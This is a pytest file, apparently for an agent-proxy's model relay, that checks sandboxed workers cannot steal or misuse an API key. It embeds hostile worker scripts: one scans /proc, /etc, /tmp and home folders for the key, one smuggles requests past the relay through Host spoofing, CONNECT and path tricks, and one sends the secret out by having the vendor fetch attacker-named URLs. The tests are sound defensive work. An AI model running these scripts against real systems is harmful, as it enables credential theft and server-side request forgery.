"""A worker that is granted a model and wants the key, or the way out: shown to work on a twin that
simply hands the key in, then asked of the relay.
"""

import json
import re
import time
import urllib.request
from pathlib import Path

import pytest
from support.commands import work_once
from support.model_server import Reply, Server, model_server
from support.relay import KEY, Body, Wallet, keys_for, relayed
from support.repositories import sandbox

from agentproxy.events.envelope import Fact
from agentproxy.events.work import NetworkRefused, WorkerEnded
from agentproxy.models.budget import Budget
from agentproxy.models.metered import Meter
from agentproxy.workers.launcher import WorkerGrants
from agentproxy.workspace.sandbox.plain import Plain
from agentproxy.workspace.sandbox.port import Sandbox

CLOCK_TICK = 1.0  # seconds; the times of files are not exact

# The key is put together, so that the thief does not find itself. Files that have not changed since
# the test began do not have it, and there are tens of thousands of them below our own Python.
THIEF = f"""
import os, stat, sys
key = "".join({list(KEY)!r}).encode()
found = []
if key in "\\0".join(f"{{k}}={{v}}" for k, v in os.environ.items()).encode():
    found.append("environment")
roots = ["/proc", os.environ["HOME"], "/tmp", "/run", "/etc", os.getcwd()]
for root in roots:
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            try:
                known = os.stat(path)
                if stat.S_IFMT(known.st_mode) in (stat.S_IFIFO, stat.S_IFSOCK, stat.S_IFCHR):
                    continue
                if root != "/proc" and known.st_ctime < BEGAN:
                    continue
                with open(path, "rb", buffering=0) as file:
                    if key in file.read(1 << 20):
                        found.append(path)
            except (OSError, ValueError):
                pass
print("FOUND", found)
"""

# Every way in which a worker might send a request elsewhere by the relay's own hand.
ASKS_ELSEWHERE = """
import http.client, json, os, urllib.parse
at = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"])
key = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
other = "127.0.0.1:%d" % OTHER
body = json.dumps({"model": "gpt-4o", "messages": []})
def ask(method, target, more={}, host=None):
    connection = http.client.HTTPConnection(at.hostname, at.port, timeout=10)
    connection.putrequest(method, target, skip_host=True)
    for name, value in {"Host": host or at.netloc, **key, **more}.items():
        connection.putheader(name, value)
    connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body.encode())
    print(connection.getresponse().status, end=" ")
ask("POST", "http://%s/v1/chat/completions" % other)
ask("CONNECT", other)
ask("POST", "//%s/v1/chat/completions" % other)
ask("POST", "/v1/chat/completions@%s/" % other)
ask("POST", "/v1/files")
ask("GET", "/v1/models/../files")
ask("POST", "/v1/chat/completions", host=other)
ask("POST", "/v1/chat/completions", {"X-Forwarded-Host": other, "Forwarded": "host=" + other})
"""


def thief() -> str:
    return f"BEGAN = {time.time() - CLOCK_TICK}\n{THIEF}"


def work(
    folder: Path, script: str, *, grants: WorkerGrants, box: Sandbox | None = None
) -> tuple[WorkerEnded, list[Fact]]:
    """What a program comes to that is this Python script."""
    own = folder / "own"
    own.mkdir()
    (own / "worker.py").write_text(script)
    return work_once(folder, f"/usr/bin/python3 {own / 'worker.py'}", grants=grants, box=box)


def test_a_key_that_is_handed_in_is_found_by_the_thief(tmp_path: Path) -> None:
    leaves_it = "import os\nopen('/tmp/left', 'w').write(os.environ['OPENAI_API_KEY'])\n"
    grants = WorkerGrants(env={"OPENAI_API_KEY": KEY})
    ended, _ = work(tmp_path, leaves_it + thief(), grants=grants)
    for place in ("'environment'", "/environ", "'/tmp/left'"):
        assert place in ended.output


def test_through_the_relay_the_thief_finds_no_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    theft = thief()
    with model_server() as server:  # only its models are asked for
        for name, value in keys_for(server).items():
            monkeypatch.setenv(name, value)  # as the user's own shell has it
        asks_first = (
            "import os, urllib.request\n"
            'url = os.environ["OPENAI_BASE_URL"] + "/models"\n'
            'key = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}\n'
            "urllib.request.urlopen(urllib.request.Request(url, headers=key)).read()\n"
        )
        ended, _ = work(
            tmp_path, asks_first + theft, grants=WorkerGrants(model=relayed("gpt-4o", server))
        )
    assert server.heads[0]["authorization"] == f"Bearer {KEY}"
    assert "FOUND []" in ended.output, ended.output


def test_the_relay_leads_to_the_vendor_and_nowhere_else(tmp_path: Path) -> None:
    with model_server(*[Reply(text=("Hi",))] * 2) as server, model_server() as other:
        script = f"OTHER = {other.url.rpartition(':')[2]}\n{ASKS_ELSEWHERE}"
        ended, facts = work(tmp_path, script, grants=WorkerGrants(model=relayed("gpt-4o", server)))
    assert ended.output.split() == ["400"] * 6 + ["200"] * 2, ended.output
    assert other.paths == []
    assert server.paths == ["/v1/chat/completions"] * 2
    refused = [fact for fact in facts if isinstance(fact, NetworkRefused)]
    assert {fact.host for fact in refused} == {"model relay"}
    assert len(refused) == 6


# Whatever stands at these addresses is asked for by the vendor, with the secret in them.
SENDS_OUT = """
import json, os, urllib.error, urllib.request
away = "http://127.0.0.1:%d/?secret=" % OTHER
bodies = [
    {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": away + "1"}}]}]},
    {"messages": [], "tools": [{"type": "mcp", "server_url": away + "2"}]},
    {"messages": [], "web_search_options": {"only": away + "3"}},
]
for body in bodies:
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        json.dumps({"model": "gpt-4o", **body}).encode(),
        {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
    )
    try:
        print(urllib.request.urlopen(request).status, end=" ")
    except urllib.error.HTTPError as error:
        print(error.code, json.load(error)["error"]["code"], end=" ")
"""


def obliging(body: Body) -> Reply:
    """A vendor that fetches what it is told to, as they all do."""
    for address in re.findall(r'http://127[^"]*', json.dumps(body)):
        with urllib.request.urlopen(address) as answer:
            answer.read()
    return Reply(text=("I have seen it.",))


def test_a_vendor_that_is_handed_any_request_fetches_what_a_worker_names(tmp_path: Path) -> None:
    with model_server(think=obliging) as server, model_server() as other:
        env = {"OPENAI_BASE_URL": f"{server.url}/v1", "OPENAI_API_KEY": KEY}
        script = f"OTHER = {other.url.rpartition(':')[2]}\n{SENDS_OUT}"
        ended, _ = work(tmp_path, script, grants=WorkerGrants(env=env), box=Plain())
    assert ended.output.split() == ["200"] * 3
    assert other.paths == [f"/?secret={number}" for number in (1, 2, 3)]


def test_through_the_relay_the_vendor_fetches_nothing_for_a_worker(tmp_path: Path) -> None:
    with model_server(think=obliging) as server, model_server() as other:
        script = f"OTHER = {other.url.rpartition(':')[2]}\n{SENDS_OUT}"
        ended, facts = work(tmp_path, script, grants=WorkerGrants(model=relayed("gpt-4o", server)))
    assert ended.output.split() == ["400", "invalid_request_error"] * 3, ended.output
    assert (server.paths, other.paths) == ([], [])
    refused = [fact for fact in facts if isinstance(fact, NetworkRefused)]
    assert {fact.host for fact in refused} == {"model relay"}
    assert len(refused) == 3


SPENDS = """
import json, os, urllib.error, urllib.request
url = os.environ["OPENAI_BASE_URL"] + "/chat/completions"
body = json.dumps({"model": "gpt-4o", "messages": [], "max_tokens": 1000}).encode()
key = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
for _ in range(5):
    try:
        print(urllib.request.urlopen(urllib.request.Request(url, body, key)).status)
    except urllib.error.HTTPError as error:
        print(error.code, json.load(error)["error"]["code"])
        break
"""


@pytest.mark.parametrize("box", [sandbox(), Plain()], ids=["sandbox", "plain"])
def test_a_worker_that_spends_all_is_told_so_and_its_work_ends_out_of_money(
    tmp_path: Path, box: Sandbox
) -> None:
    wallet = Wallet(0.02)
    meter = Meter(record=wallet.record, budget=Budget(wallet.left))

    def spend(server: Server) -> WorkerEnded:
        grants = WorkerGrants(model=relayed("gpt-4o", server), meter=meter)
        return work(tmp_path, SPENDS, grants=grants, box=box)[0]

    with model_server(*[Reply(text=("Hi",), usage=(1000, 200))] * 3) as server:
        ended = spend(server)
    assert ended.output.split() == ["200"] * 3 + ["400", "insufficient_quota"], ended.output
    assert ended.out_of_money
    assert len(server.paths) == 3
    assert json.dumps([fact.model_dump() for fact in wallet.facts]).count(KEY) == 0
